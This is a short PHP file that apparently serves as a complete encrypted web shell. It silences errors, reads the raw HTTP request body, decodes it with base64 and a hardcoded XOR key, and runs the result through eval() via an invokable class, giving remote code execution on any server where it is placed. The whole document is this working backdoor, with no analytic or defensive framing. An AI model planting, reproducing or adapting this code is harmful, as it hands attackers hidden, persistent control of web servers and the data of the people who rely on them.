<?php
@error_reporting(0);
function DmznqL_d($data, $k)
{
    for ($i = 0; $i < strlen($data); $i++) {
        $data[$i] = $data[$i] ^ $k[$i + 1 & 15];
    }
    return $data;
}
$k = "79f5fc5afd95eca3";
$raw = file_get_contents("php://input");
if ($raw != "") {
    $code = DmznqL_d(base64_decode($raw), $k);
    class DmznqL { public function __invoke($p) { eval($p . ""); } }
    @call_user_func(new DmznqL(), $code);
}
